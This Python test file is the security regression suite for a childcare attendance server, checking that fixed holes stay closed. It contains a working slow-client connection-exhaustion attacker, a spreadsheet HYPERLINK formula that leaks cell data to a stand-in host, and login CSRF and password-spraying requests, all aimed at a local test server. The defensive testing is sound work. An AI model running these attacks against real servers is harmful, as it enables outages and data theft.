# SPDX-License-Identifier: MIT
"""test_attacks.py — the attacker's probe of issue 12, one test per hole, so that each stays
closed: slow clients filling the server (one address, and many), spreadsheet formulas in CSV
exports, login CSRF, password spraying and weak passwords, lockout as a weapon, timing of the
guardians' sign-in links, security headers on every answer and a NUL in the path.

Each test failed against the server before the fix. Attackers use source addresses of their
own (127.0.0.2 and up: all of 127/8 is loopback on Linux) while the kiosk, staff and probes
talk from 127.0.0.1; everything stays on this machine."""
import csv
import datetime
import http.client
import io
import json
import multiprocessing
import os
import random
import re
import resource
import socket
import statistics
import subprocess
import time
import unittest
import xml.etree.ElementTree as ET
import zipfile

import harness
from harness import PASSWORD, ServerTestCase

JST = datetime.timezone(datetime.timedelta(hours=9))
FORMULA = '=HYPERLINK("http://x/?x="&A1,"a")'
GUARDIAN = "attack.parent@example.jp"
ADMIN_MAIL = "it-admin@example.jp"


def raise_fd_limit(want=16384):
    """Lets this process hold thousands of sockets (the attacker's)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY:
        want = min(want, hard)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def request_from(port, source, method, path, body=None, headers=None, timeout=10):
    """One request on a new connection from source address `source`; (status, headers dict
    with lower-case names, body bytes)."""
    h = dict(headers or {})
    if body is not None and not isinstance(body, (bytes, bytearray)):
        body = json.dumps(body, ensure_ascii=False).encode()
        h.setdefault("Content-Type", "application/json")
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout,
                                   source_address=(source, 0))
    try:
        c.request(method, path, body=body, headers=h)
        r = c.getresponse()
        data = r.read()
        h = {}
        for k, v in r.getheaders():  # repeated headers (Set-Cookie) joined by newlines
            h[k.lower()] = h[k.lower()] + "\n" + v if k.lower() in h else v
        return r.status, h, data
    finally:
        c.close()


def timed(fn):
    """(result or the exception, seconds taken)."""
    t = time.monotonic()
    try:
        out = fn()
    except Exception as e:  # noqa: BLE001 — a timeout is a result here
        out = e
    return out, time.monotonic() - t


def metrics(port):
    """The server's /metrics as {name{labels}: value}."""
    st, _h, body = request_from(port, "127.0.0.1", "GET", "/metrics", timeout=5)
    out = {}
    for line in body.decode().splitlines():
        if line and not line.startswith("#"):
            k, v = line.rsplit(" ", 1)
            out[k] = float(v)
    return out


def set_conf(data, **kw):
    """Adds [server] settings to the data directory's mimamori.conf."""
    path = os.path.join(data.path, "mimamori.conf")
    with open(path, encoding="utf-8") as f:
        text = f.read()
    extra = "".join("%s = %s\n" % (k, v) for k, v in kw.items())
    with open(path, "w", encoding="utf-8") as f:
        f.write(text.replace("[server]\n", "[server]\n" + extra, 1))


class SlowClients:
    """An attacker holding `count` connections from `addresses` (round robin) that each send
    one byte of a request line every `every` seconds, never finishing the headers; a
    connection the server closes is opened again at its next turn.

    The attacker is a process of its own: in this one it would hold the interpreter's lock
    while it walks its thousands of sockets, and the probes would time the attacker's Python
    instead of the server. It has opened all its connections when the constructor returns."""

    def __init__(self, port, addresses, count, every=3.0):
        self.port, self.addresses, self.count, self.every = port, addresses, count, every
        ctx = multiprocessing.get_context("fork")
        self.stop_ev = ctx.Event()
        self.ready = ctx.Event()
        self._reopened = ctx.Value("i", 0)
        self.proc = ctx.Process(target=self._run, daemon=True)
        self.proc.start()
        if not self.ready.wait(60):
            self.close()
            raise AssertionError("the attacker did not open its connections within 60 s")

    @property
    def reopened(self):
        return self._reopened.value

    def _open(self, i):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((self.addresses[i % len(self.addresses)], 0))
        try:
            s.connect(("127.0.0.1", self.port))
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            pass
        return s

    def _run(self):
        socks = [self._open(i) for i in range(self.count)]
        self.ready.set()
        line = b"GET /staff/ HTTP/1.1\r\nHost: victim\r\nX-Slow: "
        k = 0
        while not self.stop_ev.is_set():
            byte = line[k:k + 1] if k < len(line) else b"a"
            for i, s in enumerate(socks):
                if self.stop_ev.is_set():
                    break
                try:
                    s.send(byte)
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    s.close()
                    socks[i] = self._open(i)
                    with self._reopened.get_lock():
                        self._reopened.value += 1
            k += 1
            self.stop_ev.wait(self.every)
        for s in socks:
            s.close()

    def close(self):
        """Stops the attacker; its connections are closed when this returns."""
        self.stop_ev.set()
        self.proc.join(30)
        if self.proc.is_alive():
            self.proc.kill()
            self.proc.join(10)


class AttackTest(ServerTestCase):
    def setUp(self):
        super().setUp()
        d = self.data
        d.site_add("G01", "すみれ学童クラブ")
        self.kiosk = d.kiosk_add("G01")

    def scan(self, srv):
        """A kiosk scan of an unknown card (the server looks it up: 404)."""
        return request_from(srv.port, "127.0.0.1", "POST", "/api/v1/scans",
                            body={"code": "AAAAAAAAAAAAAAAAAAAAAAAAAA"},
                            headers={"Authorization": "Bearer " + self.kiosk}, timeout=5)

    def healthz(self, srv):
        return request_from(srv.port, "127.0.0.1", "GET", "/healthz", timeout=5)

    def assert_answers_quickly(self, srv, what, extra=()):
        """/healthz and a kiosk scan (and extra probes) answer within 1 s; returns the
        slowest time. A connection cut before its request was read — while connections are
        near the limit the guard cuts any still waiting after 0.25 s, and under a loaded test
        machine a probe's own may wait that long — is tried once more, as the kiosk page does
        with a scan it could not send, within the same second."""
        slowest = 0.0
        for name, fn, ok in [("healthz", lambda: self.healthz(srv), (200,)),
                             ("kiosk scan", lambda: self.scan(srv), (404,))] + list(extra):
            out, took = timed(fn)
            if isinstance(out, (http.client.RemoteDisconnected, ConnectionResetError,
                                BrokenPipeError)):
                self.retried = getattr(self, "retried", 0) + 1
                out, again = timed(fn)
                took += again
            self.assertNotIsInstance(out, Exception, "%s %s: %r" % (what, name, out))
            self.assertIn(out[0], ok, "%s %s: %r" % (what, name, out))
            self.assertLess(took, 1.0, "%s: %s took %.3f s" % (what, name, took))
            slowest = max(slowest, took)
        return slowest

    def close_wait(self, port):
        """Sockets of the server's port in CLOSE-WAIT (closed by the peer, not by us)."""
        p = subprocess.run(["ss", "-Htn", "state", "close-wait", "( sport = :%d )" % port],
                           capture_output=True, text=True, timeout=30)
        return [l for l in p.stdout.splitlines() if l.strip()]

    # -- 1. connection exhaustion ------------------------------------------------------------

    def test_slow_clients_from_one_address(self):
        raise_fd_limit()
        srv = self.start_server()
        attacker = SlowClients(srv.port, ["127.0.0.2"], 3000, every=3.0)
        held, slowest = 0, 0.0
        try:
            # Past the 10 s header deadline, so that connections are cut and opened again.
            deadline = time.monotonic() + 16
            while time.monotonic() < deadline:
                slowest = max(slowest, self.assert_answers_quickly(srv, "under attack"))
                held = max(held, metrics(srv.port).get("mimamori_http_connections", 0))
                time.sleep(0.5)
            m = metrics(srv.port)
        finally:
            attacker.close()
        # One address holds at most its share (64), the rest were refused at once, and the
        # trickling ones were cut at the header deadline however often they sent a byte.
        self.assertLessEqual(held, 64 + 8, m)
        self.assertGreater(m["mimamori_http_refused_total"], 2000, m)
        self.assertGreaterEqual(m['mimamori_http_deadline_total{phase="headers"}'], 50, m)
        # The server answers at once when they go, and keeps nothing of theirs.
        self.assert_answers_quickly(srv, "after the attack")
        harness.wait_until(lambda: metrics(srv.port)["mimamori_http_connections"] <= 2,
                           timeout=3, what="the attacker's connections freed")
        harness.wait_until(lambda: not self.close_wait(srv.port), timeout=3,
                           what="no CLOSE-WAIT sockets")
        print("\n  one address: %d connections held at most, slowest probe %.3f s, "
              "%d refused, %d cut at the header deadline, %d reopened"
              % (held, slowest, m["mimamori_http_refused_total"],
                 m['mimamori_http_deadline_total{phase="headers"}'], attacker.reopened))

    def test_slow_clients_from_many_addresses_leave_a_share(self):
        """Distributed: no single address is over its limit, but together they pass three
        quarters of max_connections. Waiting connections are then cut after 0.25 s and
        anonymous requests get a quick 503, while kiosks and signed-in staff are served."""
        raise_fd_limit()
        d = self.data
        set_conf(d, max_connections=400)
        d.user_add("staff01", "site_staff", ["G01"])
        srv = self.start_server()
        staff = srv.client()
        self.assertEqual(staff.login("staff01").status, 200)
        addresses = ["127.0.1.%d" % i for i in range(1, 21)]
        attacker = SlowClients(srv.port, addresses, 20 * 40, every=1.0)
        shed_seen, slowest = False, 0.0
        try:
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline:
                slowest = max(slowest, self.assert_answers_quickly(srv, "distributed attack", extra=[
                    ("signed-in board", lambda: (staff.board("G01").status, None, None),
                     (200,))]))
                st, _h, _b = request_from(srv.port, "127.0.0.1", "GET", "/staff/", timeout=5)
                self.assertIn(st, (200, 503))
                shed_seen = shed_seen or st == 503
                time.sleep(0.3)
            m = metrics(srv.port)
        finally:
            attacker.close()
        self.assertTrue(shed_seen, m)
        self.assertGreater(m["mimamori_http_shed_total"], 0, m)
        self.assert_answers_quickly(srv, "after the attack")
        print("\n  many addresses: slowest probe %.3f s, %d shed, %d cut at the header deadline, "
              "%d reopened, %d probes tried again" % (
                  slowest, m["mimamori_http_shed_total"],
                  m['mimamori_http_deadline_total{phase="headers"}'], attacker.reopened,
                  getattr(self, "retried", 0)))

    # -- 2. spreadsheet formulas in CSV --------------------------------------------------------

    def test_csv_exports_carry_no_formulas(self):
        d = self.data
        d.user_add("ward01", "ward_staff")
        rows = [["F001", "G01", FORMULA, "+カナ", "2", "2017-05-03", "@保護者",
                 "f.parent@example.jp"],
                ["F002", "G01", "-1+2", "ヤマダ", "3", "2016-04-02", "山田 花子",
                 "g.parent@example.jp"]]
        d.import_children(d.write_csv("formula.csv", rows))
        srv = self.start_server(mail="maildir:" + d.tmp + "/mail")
        ward = srv.client()
        self.assertEqual(ward.login("ward01").status, 200)
        today = datetime.datetime.now(JST)
        day, month = today.strftime("%Y-%m-%d"), today.strftime("%Y-%m")
        files = {
            "daily utf-8": (ward.get("/api/v1/sites/G01/reports/daily?date=%s&format=csv" % day),
                            "utf-8-sig"),
            "daily cp932": (ward.get("/api/v1/sites/G01/reports/daily?date=%s&format=csv"
                                     "&encoding=cp932" % day), "cp932"),
            "monthly": (ward.get("/api/v1/reports/monthly?month=%s&format=csv" % month),
                        "utf-8-sig"),
        }
        for what, (r, enc) in files.items():
            self.assertEqual(r.status, 200, (what, r))
            cells = [c for row in csv.reader(io.StringIO(r.body.decode(enc))) for c in row]
            self.assertIn("'" + FORMULA, cells, what)       # readable, but text
            self.assertIn("'-1+2", cells, what)
            self.assertIn("'+カナ", cells, what)
            bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                   and not re.fullmatch(r"[-+]?\d+(\.\d+)?", c)]
            self.assertEqual(bad, [], what)
        # The XLSX writes the same names as plain strings: a cell with no formula in it.
        r = ward.get("/api/v1/reports/monthly?month=%s&format=xlsx" % month)
        self.assertEqual(r.status, 200, r)
        z = zipfile.ZipFile(io.BytesIO(r.body))
        ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
        strings = ["".join(t.text or "" for t in si.iter("{%s}t" % ns["m"]))
                   for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns)]
        self.assertIn(FORMULA, strings)  # as written, in the shared strings table
        index = str(strings.index(FORMULA))
        cells = [c for name in z.namelist() if name.startswith("xl/worksheets/sheet")
                 for c in ET.fromstring(z.read(name)).iter("{%s}c" % ns["m"])]
        mine = [c for c in cells if c.get("t") == "s" and c.findtext("m:v", None, ns) == index]
        self.assertEqual(len(mine), 1)  # one cell of type "shared string" holds it
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                self.assertNotIn("<f>", z.read(name).decode(), name)
                self.assertNotIn("<f ", z.read(name).decode(), name)

    # -- 3. login CSRF -----------------------------------------------------------------------

    def test_login_csrf(self):
        d = self.data
        d.user_add("victim01", "ward_admin")
        srv = self.start_server(mail="maildir:" + d.tmp + "/mail")
        creds = json.dumps({"login": "victim01", "password": PASSWORD}).encode()
        foreign = {"Origin": "https://attacker.example"}
        for path in ("/api/v1/session", "/api/v1/parent/session"):
            body = creds if path == "/api/v1/session" else json.dumps({"token": "x" * 43}).encode()
            # What a cross-site form can send: text/plain or form-encoded — refused, no cookie.
            for ctype in ("text/plain", "application/x-www-form-urlencoded",
                          "multipart/form-data; boundary=x"):
                st, h, b = request_from(srv.port, "127.0.0.1", "POST", path, body=body,
                                        headers=dict(foreign, **{"Content-Type": ctype}))
                self.assertEqual(st, 415, (path, ctype, b))
                self.assertNotIn("set-cookie", h)
                self.assertIn("JSON", json.loads(b)["message"])
            # JSON from a foreign Origin, or a foreign Referer without Origin: refused.
            for hdr in (foreign, {"Referer": "https://attacker.example/page"},
                        {"Origin": "null"}):
                st, h, b = request_from(srv.port, "127.0.0.1", "POST", path, body=body,
                                        headers=dict(hdr, **{"Content-Type":
                                                             "application/json"}))
                self.assertEqual(st, 403, (path, hdr, b))
                self.assertEqual(json.loads(b)["code"], "foreign_origin")
                self.assertNotIn("set-cookie", h)
        # The server's own pages (by its public origin or the name it was opened by) and
        # clients that send neither header (curl, scripts) still sign in.
        for hdr in ({"Origin": srv.url}, {"Referer": srv.url + "/staff/"}, {},
                    {"Origin": "http://localhost:%d" % srv.port,
                     "Host": "localhost:%d" % srv.port}):
            st, h, b = request_from(srv.port, "127.0.0.1", "POST", "/api/v1/session",
                                    body=creds, headers=dict(hdr, **{
                                        "Content-Type": "application/json; charset=utf-8"}))
            self.assertEqual(st, 200, (hdr, b))
            self.assertIn("mimamori_session=", h.get("set-cookie", ""))
        # A signed-in state change from a foreign page is refused even with the CSRF token
        # (which it cannot have); a kiosk's bearer token is never sent by a browser on its own,
        # so Origin does not matter for it.
        c = srv.client()
        self.assertEqual(c.login("victim01").status, 200)
        r = c.request("DELETE", "/api/v1/session", headers=foreign)
        self.assertEqual(r.status, 403, r)
        self.assertEqual(c.get("/api/v1/session").status, 200)
        st, _h, b = request_from(srv.port, "127.0.0.1", "POST", "/api/v1/scans",
                                 body={"code": "AAAAAAAAAAAAAAAAAAAAAAAAAA"},
                                 headers=dict(foreign, Authorization="Bearer " + self.kiosk))
        self.assertEqual(st, 404, b)
        # Every refusal of a foreign origin is in the audit log.
        n = d.query("SELECT COUNT(*) FROM audit WHERE action = 'denied' AND detail = 'origin'")
        self.assertGreaterEqual(n[0][0], 7)

    # -- 4. password spraying and weak passwords --------------------------------------------

    def test_weak_passwords_refused(self):
        d = self.data
        for pw in ("aaaaaaaaaa", "1234567890", "password12", " " * 10, "Password123",
                   "suzuki-no-pass", "G01-club-pass", "x" * 129):
            r = harness.cli("user", "add", "--data", d.path, "--login", "suzuki", "--role",
                            "site_staff", "--site", "G01", "--password-stdin",
                            input=(pw + "\n").encode())
            self.assertNotEqual(r.rc, 0, pw)
            self.assertRegex(r.err, "[ぁ-んァ-ン一-龥]", r.err)  # said in Japanese
        # Any characters, up to 128.
        for i, pw in enumerate(("長い合言葉でも大丈夫です", "🐱 cats & dogs, 2 of each!",
                                "z" + "あいうえお" * 25 + "xy")):
            d.user_add("user%d" % i, "ward_staff", password=pw)

    def test_password_spraying_is_throttled_per_address(self):
        d = self.data
        for i in range(22):
            d.user_add("staff%02d" % i, "site_staff", ["G01"])
        srv = self.start_server(mail="maildir:" + d.tmp + "/mail")
        sprayer = "127.0.0.3"
        statuses = []
        for i in range(22):
            st, _h, _b = request_from(srv.port, sprayer, "POST", "/api/v1/session",
                                      body={"login": "staff%02d" % i, "password": "Summer2024!"})
            statuses.append(st)
        # Each account saw one failure at most; the address is slowed after 20.
        self.assertEqual(statuses[:20], [401] * 20)
        self.assertEqual(statuses[20:], [429, 429])
        st, _h, b = request_from(srv.port, sprayer, "POST", "/api/v1/session",
                                 body={"login": "staff21", "password": PASSWORD})
        self.assertEqual(st, 429, b)
        # The account never failed: the answer says the address is held (it said 「ログインの
        # 失敗が続いたため」 and sent the person looking for a wrong password).
        self.assertEqual(json.loads(b)["code"], "address_throttled", b)
        self.assertRegex(json.loads(b)["message"], "^この接続元からの試行が多すぎます。.*秒後")
        # The same account from another address signs in.
        st, _h, b = request_from(srv.port, "127.0.0.4", "POST", "/api/v1/session",
                                 body={"login": "staff21", "password": PASSWORD})
        self.assertEqual(st, 200, b)
        # The guardians' sign-in routes count too: bad link tokens, and link requests.
        for path, body, first in (("/api/v1/parent/session", {"token": "n" * 43}, 404),
                                  ("/api/v1/parent/login-links",
                                   {"email": "nobody@example.jp"}, 202)):
            addr = "127.0.0.5" if "session" in path else "127.0.0.6"
            got = [request_from(srv.port, addr, "POST", path, body=body)[0] for _ in range(21)]
            self.assertEqual(got, [first] * 20 + [429], path)

    # -- 5. lockout as a weapon --------------------------------------------------------------

    def test_lock_does_not_lock_out_the_owner(self):
        d = self.data
        clock = os.path.join(d.tmp, "now")
        now = [int(time.time())]

        def advance(seconds):
            now[0] += seconds
            with open(clock + ".tmp", "w") as f:
                f.write(str(now[0]))
            os.replace(clock + ".tmp", clock)
            time.sleep(0.12)  # the server reads the file at most every 50 ms

        advance(0)
        d.user_add("admin01", "ward_admin")
        set_conf(d, admin_alert_email=ADMIN_MAIL)
        smtp = self.start_smtp()
        srv = self.start_server(env={"MIMAMORI_FAKE_NOW_FILE": clock})
        # The owner signs in once on this computer: the answer sets a device cookie.
        cookies = [v for k, v in http_cookies(srv.port, "admin01")]
        device = next(c for c in cookies if c.startswith("mimamori_device="))
        self.assertIn("HttpOnly", device)
        self.assertIn("Path=/api/v1/session", device)
        device = device.split(";", 1)[0]
        # Someone else locks the account with ten wrong passwords (from ten addresses).
        for i in range(10):
            st, _h, b = request_from(srv.port, "127.0.3.%d" % (i + 1), "POST",
                                     "/api/v1/session",
                                     body={"login": "admin01", "password": "guess-%d-xx" % i})
            self.assertEqual(st, 401, b)
            advance(120)  # past the growing delay
        st, _h, b = request_from(srv.port, "127.0.3.20", "POST", "/api/v1/session",
                                 body={"login": "admin01", "password": PASSWORD})
        self.assertEqual(st, 429, b)  # locked for a client without the cookie
        # The owner, holding the device cookie, signs in all the same.
        st, _h, b = request_from(srv.port, "127.0.0.1", "POST", "/api/v1/session",
                                 body={"login": "admin01", "password": PASSWORD},
                                 headers={"Cookie": device})
        self.assertEqual(st, 200, b)
        # The ward administrator was told, without personal data, and the lock was audited.
        mail = smtp.wait_for(lambda ms: any(ADMIN_MAIL in m.rcpts for m in ms),
                             what="the lock alert")
        alert = next(m for m in mail if ADMIN_MAIL in m.rcpts)
        self.assertIn("ロック", alert.subject)
        self.assertIn("アカウント番号", alert.body)
        self.assertNotIn("admin01", alert.body + alert.subject)
        self.assertEqual(len(smtp.to(ADMIN_MAIL)), 1)
        rows = d.query("SELECT COUNT(*) FROM audit WHERE action = 'signin.locked'")
        self.assertEqual(rows[0][0], 1)
        self.assertEqual(d.audit_verify().rc, 0)

    # -- 6. timing, headers, NUL -------------------------------------------------------------

    def test_login_link_timing_does_not_tell(self):
        d = self.data
        # 40 confirmed guardians: each may get 3 links per 15 minutes, so each of the 120
        # registered requests below does the whole work (look-up, token, mail, audit).
        guardians = ["timing%02d@example.jp" % i for i in range(40)]
        d.import_one_child_each(guardians, prefix="T")
        smtp = self.start_smtp()
        srv = self.start_server()
        web = srv.client()
        for m in smtp.wait_count(len(guardians), timeout=60):
            self.assertEqual(web.post("/api/v1/confirmations",
                                      {"token": m.confirm_token}).status, 200)

        def ask(email, src):
            body = json.dumps({"email": email}).encode()
            c = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=10,
                                           source_address=(src, 0))
            c.connect()
            t = time.perf_counter()
            c.request("POST", "/api/v1/parent/login-links", body=body,
                      headers={"Content-Type": "application/json"})
            r = c.getresponse()
            r.read()
            took = time.perf_counter() - t
            c.close()
            self.assertEqual(r.status, 202)
            return took

        # Pairs, one registered and one unknown address in random order, each on a fresh
        # connection from rotating addresses (each under the per-address throttle): a pair
        # sees the same load, so the median of the differences is the difference the address
        # makes. The first pairs warm up and are not counted.
        rnd = random.Random(12)
        known, unknown, diffs = [], [], []
        for i in range(130):
            src = "127.0.4.%d" % (1 + i // 8)
            registered = guardians[i % len(guardians)]
            first_known = rnd.random() < 0.5
            a = ask(registered if first_known else "nobody%d@example.jp" % i, src)
            time.sleep(0.005)  # the work after an answer is over before the next request
            b = ask("nobody%d@example.jp" % i if first_known else registered, src)
            time.sleep(0.005)
            tk, tu = (a, b) if first_known else (b, a)
            if i >= 10:
                known.append(tk)
                unknown.append(tu)
                diffs.append(tk - tu)
        mk, mu, md = statistics.median(known), statistics.median(unknown), statistics.median(diffs)
        print("\n  login-links medians: registered %.3f ms, unknown %.3f ms, "
              "paired difference %.3f ms" % (mk * 1000, mu * 1000, md * 1000))
        # Within noise: the registered address does its work after the answer. (Before, its
        # answer took about twice as long: 1.4 against 0.7 ms in the probe.)
        self.assertLess(abs(md), max(0.2 * min(mk, mu), 0.0003), (mk, mu, md))
        # And the work was done: every registered address got its three links.
        smtp.wait_for(lambda ms: sum("#login=" in x.body for x in ms) >= 3 * len(guardians),
                      timeout=60, what="the link mails")

    def test_every_answer_carries_security_headers(self):
        srv = self.start_server(mail="maildir:" + self.data.tmp + "/mail")
        want = ("content-security-policy", "x-content-type-options", "x-frame-options",
                "referrer-policy")
        for method, path, status in (("GET", "/no/such/page.html", 404),
                                     ("GET", "/no-such-dir/", 404),
                                     ("GET", "/bad..path", 400),
                                     ("GET", "/staff", 301),
                                     ("POST", "/staff/", 405),
                                     ("GET", "/api/v1/nothing", 404),
                                     ("GET", "/staff/", 200),
                                     ("GET", "/healthz", 200)):
            st, h, b = request_from(srv.port, "127.0.0.1", method, path,
                                    body=b"" if method == "POST" else None)
            self.assertEqual(st, status, (path, b))
            for name in want:
                self.assertIn(name, h, (method, path))
            if st == 404 and not path.startswith("/api/"):
                self.assertIn("ページが見つかりません", b.decode())

    def test_nul_in_path_refused(self):
        srv = self.start_server(mail="maildir:" + self.data.tmp + "/mail")
        for path in ("/staff/index.html%00.css", "/staff/%00", "/api/v1/session%00",
                     "/staff/index.html?x=%00"):
            st, h, b = request_from(srv.port, "127.0.0.1", "GET", path)
            self.assertEqual(st, 400, (path, b[:80]))
            self.assertNotIn(b"<html", b.lower())
            self.assertIn("content-security-policy", h)
        st, _h, _b = request_from(srv.port, "127.0.0.1", "GET", "/staff/index.html")
        self.assertEqual(st, 200)


def http_cookies(port, login):
    """The Set-Cookie headers of a sign-in of login (all of them, in order)."""
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        c.request("POST", "/api/v1/session",
                  body=json.dumps({"login": login, "password": PASSWORD}),
                  headers={"Content-Type": "application/json"})
        r = c.getresponse()
        r.read()
        return [(k, v) for k, v in r.getheaders() if k.lower() == "set-cookie"]
    finally:
        c.close()


if __name__ == "__main__":
    unittest.main()
